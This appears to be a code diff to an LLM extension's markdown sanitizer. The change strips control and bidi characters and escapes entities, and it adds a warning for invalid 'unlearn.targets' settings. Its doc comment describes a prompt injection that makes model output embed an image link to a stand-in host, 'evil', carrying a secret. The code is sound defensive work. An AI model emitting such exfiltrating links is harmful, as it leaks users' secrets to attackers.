@@ -6,7 +6,8 @@
 import type { ChatMessage } from '../core/llm/port';
 import type { PipelineEvent, PipelineResult } from '../core/pipeline/types';
 import type { Redaction } from '../core/guard/types';
-import type { ForgetTarget } from '../core/targets';
+import type { ForgetTarget, TargetProblem } from '../core/targets';
+import { ControlStripper } from '../core/text/controls';
 
 // --- model output → safe markdown -------------------------------------------------------------------
 
@@ -17,23 +18,43 @@ const FENCE = /^ {0,3}(`{3,}|~{3,})/;
  * Turns streamed model text into markdown that cannot fetch anything or reach outside the answer.
  *
  * Model output is untrusted: a prompt injection can make it write `![x](https://evil/?q=secret)`, which
- * a renderer fetches without a click, a link that looks like something else, raw HTML, or an unclosed
- * code fence that swallows the notes and buttons we write after the answer. So, outside code:
- * `[`, `]` and `<` are escaped (no link, image or HTML can form), `://` and `www.` are broken with an
- * escape so autolinking finds nothing; code (fenced or inline) is kept literally because it renders as
- * plain text anyway; a fence still open at the end is closed. Everything else (emphasis, lists,
- * headings, tables) still renders. Markers `[redacted: Name]` are rendered in bold.
+ * a renderer fetches without a click, a link that looks like something else, raw HTML, an entity such as
+ * `&#8238;` that renders a character we strip, or an unclosed code fence that swallows the notes and
+ * buttons we write after the answer. So, first, control characters, escape sequences and bidi controls
+ * are removed everywhere (code included; a carriage return would otherwise start a line, and so a
+ * fence, that we do not see). Then, outside code: `[`, `]` and `<` are escaped (no link, image or HTML
+ * can form), `&` becomes `&amp;` (no entity can form), `://` and `www.` are broken with an escape so
+ * autolinking finds nothing; code (fenced or inline) is kept literally because it renders as plain text
+ * anyway; a fence still open at the end is closed. Everything else (emphasis, lists, headings, tables)
+ * still renders. Markers `[redacted: Name]` are rendered in bold.
  *
  * Streaming: text is released a line at a time, or up to the last space of a partial line when that
  * line has no backtick and cannot be a fence, so a link or a URL split across chunks is still caught.
  */
 export class MarkdownSanitizer {
+  private readonly controls = new ControlStripper();
   private pending = '';
   private fence: string | undefined;
   /** Part of the current line already went out, so what is left cannot open or close a fence. */
   private midLine = false;
 
   push(chunk: string): string {
+    return this.consume(this.controls.push(chunk));
+  }
+
+  /** The rest, with any fence the model left open closed. */
+  end(): string {
+    let out = this.consume(this.controls.end());
+    if (this.pending) out += this.line(this.pending);
+    this.pending = '';
+    if (this.fence) {
+      out += `\n${this.fence}\n`;
+      this.fence = undefined;
+    }
+    return out;
+  }
+
+  private consume(chunk: string): string {
     this.pending += chunk;
     let out = '';
     let newline = this.pending.indexOf('\n');
@@ -43,17 +64,6 @@ export class MarkdownSanitizer {
       newline = this.pending.indexOf('\n');
     }
     return out + this.releasePartial();
-  }
-
-  /** The rest, with any fence the model left open closed. */
-  end(): string {
-    let out = this.pending ? this.line(this.pending) : '';
-    this.pending = '';
-    if (this.fence) {
-      out += `\n${this.fence}\n`;
-      this.fence = undefined;
-    }
-    return out;
   }
 
   /** A partial line goes out early only up to a point where what follows cannot change how it renders. */
@@ -136,8 +146,9 @@ function escapeInline(text: string): string {
 
 function escapeText(text: string): string {
   return text
-    .replace(/\\(?=[[\]<>`])/g, '\\\\')
+    .replace(/\\(?=[[\]<>`&])/g, '\\\\')
     .replace(/[[\]]/g, (c) => `\\${c}`)
+    .replace(/&/g, '&amp;')
     .replace(/</g, '&lt;')
     .replace(/>/g, '&gt;')
     .replace(/:\/\//g, ':\\/\\/')
@@ -161,6 +172,39 @@ export function escapeMarkdown(text: string): string {
  */
 export function rewriteQuestion(text: string): string {
   return `Repeat the text between the markers below exactly as written, keeping its wording, layout and language. Reply with that text only, without the markers.\n<<<TEXT\n${text}\nTEXT>>>`;
+}
+
+// --- broken target settings ---------------------------------------------------------------------------
+
+/** What of `unlearn.targets` is skipped: entries that fail validation, and settings files whose value is not a list. */
+export interface TargetSettingsHealth {
+  readonly invalidEntries: number;
+  readonly unreadableStores: number;
+}
+
+/** Counts, per settings file, the entries with an error (each once) and the values that are not an array. */
+export function targetSettingsHealth(views: readonly { readonly problems: readonly Pick<TargetProblem, 'index' | 'severity'>[] }[]): TargetSettingsHealth {
+  let invalidEntries = 0;
+  let unreadableStores = 0;
+  for (const view of views) {
+    const errors = view.problems.filter((p) => p.severity === 'error');
+    if (errors.some((p) => p.index < 0)) unreadableStores++;
+    invalidEntries += new Set(errors.filter((p) => p.index >= 0).map((p) => p.index)).size;
+  }
+  return { invalidEntries, unreadableStores };
+}
+
+/**
+ * The one line an answer starts with when part of `unlearn.targets` is skipped, so nobody reads it as
+ * guarded against targets that are not; undefined when everything is valid. Markdown, safe as plain text.
+ */
+export function brokenTargetsNote(health: TargetSettingsHealth): string | undefined {
+  const { invalidEntries: n, unreadableStores: files } = health;
+  if (!n && !files) return undefined;
+  const entries = n === 1 ? '1 entry of `unlearn.targets` is invalid' : `${n} entries of \`unlearn.targets\` are invalid`;
+  const notList = `\`unlearn.targets\` is not a list in ${files === 1 ? 'one settings file' : `${files} settings files`}`;
+  const what = n && files ? `${entries} and ${notList}; none of these are guarded` : n ? `${entries} and not guarded` : `${notList}, so nothing in ${files === 1 ? 'it' : 'them'} is guarded`;
+  return `⚠ ${what} — see the Forget Targets view`;
 }
 
 // --- progress --------------------------------------------------------------------------------------
